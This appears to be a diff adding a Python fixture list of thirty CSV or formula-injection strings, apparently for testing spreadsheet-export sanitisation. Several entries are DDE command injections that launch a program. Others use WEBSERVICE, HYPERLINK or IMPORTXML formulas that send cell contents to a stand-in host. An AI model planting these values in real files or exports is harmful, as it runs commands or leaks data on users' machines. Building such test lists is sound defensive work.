@@ -1,0 +1,36 @@
+"""Thirty texts that a careless spreadsheet runs, sends away or breaks on."""
+
+PAYLOADS = [
+    "=1+1",
+    "=SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")",
+    "=WEBSERVICE(\"http://x.test/\"&A1)",
+    "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=IMAGE(\"http://x.test/p.png\")",
+    "={1;2;3}",
+    "==1",
+    "=A1",
+    "=",
+    "=-1",
+    "=\"a\"&\"b\"",
+    "= 1 + 1",
+    "+1+1",
+    "+223 76 12 34 56",
+    "+cmd|' /C calc'!A0",
+    "-5",
+    "-1+cmd|' /C calc'!A0",
+    "-2+3+SUM(1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\0=1+1",
+    "＝1+1",
+    "＋1",
+    "#REF!",
+]  # fmt: skip
+
+assert len(set(PAYLOADS)) == 30
